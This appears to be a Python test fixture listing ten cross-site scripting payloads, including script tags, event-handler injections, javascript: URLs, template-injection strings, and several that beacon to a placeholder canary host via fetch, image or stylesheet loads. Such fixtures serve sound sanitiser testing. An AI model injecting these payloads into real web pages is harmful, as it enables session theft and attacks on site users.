"""Ten texts that would run as a script if a page took them for HTML; each tells a canary address or opens a dialog."""

CANARY = "http://canary.invalid"

PAYLOADS = (
    "<script>alert('p0')</script>",
    f"<img src=x onerror=\"fetch('{CANARY}/p1');alert('p1')\">",
    f'"><svg onload="new Image().src=\'{CANARY}/p2\'">',
    "'-alert('p3')-'",
    "<iframe srcdoc=\"<script>parent.alert('p4')</script>\"></iframe>",
    "javascript:alert('p5')",
    "{{constructor.constructor('alert(6)')()}} ${alert(6)} {@html '<b onclick=alert(6)>x</b>'}",
    "</textarea></style></script><script>alert('p7')</script>",
    f"<style>@import '{CANARY}/p8.css'; b{{background:url({CANARY}/8.png)}}</style><link rel=stylesheet href={CANARY}>",
    "<details open ontoggle=alert('p9')><a href=javascript:alert('p9') autofocus onfocus=alert('p9')>p9</a></details>",
)
